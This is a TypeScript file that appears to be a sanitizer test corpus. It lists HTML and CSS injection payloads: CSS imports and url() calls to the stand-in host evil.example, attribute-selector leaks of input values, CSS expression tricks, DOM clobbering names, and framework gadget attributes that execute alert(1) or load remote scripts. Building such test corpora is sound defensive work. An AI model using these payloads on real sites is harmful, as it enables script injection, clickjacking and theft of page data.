/** Elements and attributes that act without any handler: styles, names that stand for what the page is made of, frames of scripts that pages load. */

export const styles: string[] = [
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>@import url(//evil.example/x.css);</style>',
  '<style>@\\69mport url(//evil.example/x.css);</style>',
  '<style>body{background:url("https://evil.example/x.gif")}</style>',
  '<style>p{background:url("javascript:alert(1)")}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}p{font-family:x}</style><p>a</p>',
  '<style>input[value^=a]{background:url(https://evil.example/a)}</style><input value=a>',
  '<style>@namespace url(https://evil.example/);</style>',
  '<style>@charset "utf-7";</style>',
  '<style type="text/javascript">alert(1)</style>',
  '<style media="(min-width:0)">*{display:none}</style>',
  '<style nonce=x>*{color:red}</style>',
  '<svg><style>@import "https://evil.example/x.css";</style></svg>',
  '<math><style>*{background:url(https://evil.example/x.gif)}</style></math>',
  '<xss style="background:url(https://evil.example/x.gif)">a</xss>',
  '<p style="background-image:\\75\\72\\6c(javascript:alert(1))">a</p>',
  '<p style="width:expression(alert(1))">a</p>',
  '<p style="width:exp/**/ression(alert(1))">a</p>',
  '<p style="width:\\65xpression(alert(1))">a</p>',
  '<p style="w\\69dth:ｅxpression(alert(1))">a</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">a</p>',
  '<p style="behavior:url(https://evil.example/x.htc)">a</p>',
  '<p style="list-style-image:url(javascript:alert(1))">a</p>',
  '<p style="position:fixed;inset:0;z-index:99999;opacity:0">a</p>',
  '<p style="background:image-set(\'https://evil.example/x.gif\' 1x)">a</p>',
  '<p style="cursor:url(https://evil.example/x.cur),auto">a</p>',
  '<p style="mask:url(https://evil.example/x.svg#m)">a</p>',
  '<p style=\'font-family:"a</style><img src=x onerror=alert(1)>"\'>a</p>',
  '<p style="--x:{};animation:x 1s">a</p>',
  '<svg style="filter:url(https://evil.example/x.svg#f)"><rect width=9 height=9></rect></svg>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<link rel="alternate stylesheet" title=x href="//evil.example/x.css">',
  '<table style="background:url(//evil.example/x.gif)"><td style="background:url(//evil.example/y.gif)">a</table>',
  '<a href="https://a.example/" style="display:block;position:fixed;inset:0">a</a>',
  '<a href="https://a.example/" class="modal-overlay fixed" data-toggle="x">a</a>'
]

/** DOM clobbering: names that scripts of the page ask for. */
const NAMES = ['getElementById', 'createElement', 'querySelector', 'querySelectorAll', 'addEventListener', 'body', 'head', 'forms', 'images', 'defaultView', 'implementation', 'currentScript', 'location', 'cookie', 'documentElement', 'write']

export const clobbering: string[] = [
  ...NAMES.map(name => `<img name=${name} src=a.gif>`),
  ...['form', 'embed', 'object', 'iframe'].map(tag => `<${tag} name=getElementById></${tag}>`),
  '<a id=config href="https://evil.example/">a</a>',
  '<a id=config><a id=config name=url href="https://evil.example/">a</a></a>',
  '<a name=config>a</a>',
  '<form id=config name=x><input name=url value="https://evil.example/"><output name=y>z</output></form>',
  '<form id=config><input id=attributes><input name=parentNode></form>',
  '<form onclick=alert(1)><input name=attributes><input name=removeAttribute></form>',
  '<form><input name=nodeName><input name=childNodes><input name=removeChild>a</form>',
  '<iframe name=config srcdoc="<a id=url href=https://evil.example/>a</a>"></iframe>',
  '<object id=config data="https://evil.example/"></object>',
  '<h2 id=currentScript>a</h2><h2 id=ga>b</h2>',
  '<p id="user-content-a">a</p><p id="user-content-user-content-a">b</p>',
  '<p id=__proto__>a</p><p id=constructor>b</p><p id=toString>c</p><p id=valueOf>d</p>',
  '<p id="window">a</p><p id="self">b</p><p id="top">c</p><p id="alert">d</p>',
  '<img id=pwned name=pwned src=a.gif>',
  '<map name=config><area id=config href="https://evil.example/"></map>',
  '<slot name=config>a</slot><p slot=config part=config exportparts=config>b</p>',
  '<input form=config name=x><button form=config formmethod=dialog>a</button>',
  '<label for=config>a</label><output for=config name=config>b</output>'
]

/** Attributes that scripts on the page may take for orders, in the way that frameworks do. */
export const gadgets: string[] = [
  '<div ng-app ng-csp><p ng-click="$event.view.alert(1)">a</p>{{constructor.constructor("alert(1)")()}}</div>',
  '<div v-on:click="alert(1)" v-html="\'<img src=x onerror=alert(1)>\'" @click="alert(1)">a</div>',
  '<div x-data x-init="alert(1)" x-on:click="alert(1)">a</div>',
  '<div hx-get="https://evil.example/" hx-on:click="alert(1)" hx-trigger=load>a</div>',
  '<div data-bind="click: alert(1), html: \'<img src=x onerror=alert(1)>\'">a</div>',
  '<div data-toggle=tooltip data-html=true title="<img src=x onerror=alert(1)>">a</div>',
  '<div data-controller=x data-action="click->x#alert" data-turbo-stream>a</div>',
  '<div onclick={alert(1)} dangerouslySetInnerHTML={{__html:"<img src=x onerror=alert(1)>"}}>a</div>',
  '<turbo-stream action=append target=a><template><script>alert(1)</script></template></turbo-stream>',
  '<amp-script src="https://evil.example/x.js"></amp-script>',
  '<g:plusone href="javascript:alert(1)"></g:plusone>',
  '<a href="https://a.example/" data-remote=true data-method=delete data-confirm=a>a</a>',
  ['$', '{alert(1)} #{alert(1)} {{alert(1)}} {%alert(1)%} <%alert(1)%> @{alert(1)}'].join(''),
  '<script type="text/x-template"><img src=x onerror=alert(1)></script>',
  '<img src=a.gif data-src=x data-onerror=alert(1) data-lazy="javascript:alert(1)">',
  '<p contenteditable=true spellcheck inputmode=none enterkeyhint=go nonce=x>a</p>',
  '<p hidden popover inert tabindex=1 accesskey=x autofocus draggable=true>a</p>',
  '<p itemscope itemtype="javascript:alert(1)" itemprop=x itemid="javascript:alert(1)">a</p>',
  '<p role=button aria-label="<img src=x onerror=alert(1)>" aria-details=x>a</p>',
  '<p xml:base="javascript:alert(1)" xmlns="http://www.w3.org/1999/xhtml" xlink:href="javascript:alert(1)">a</p>'
]
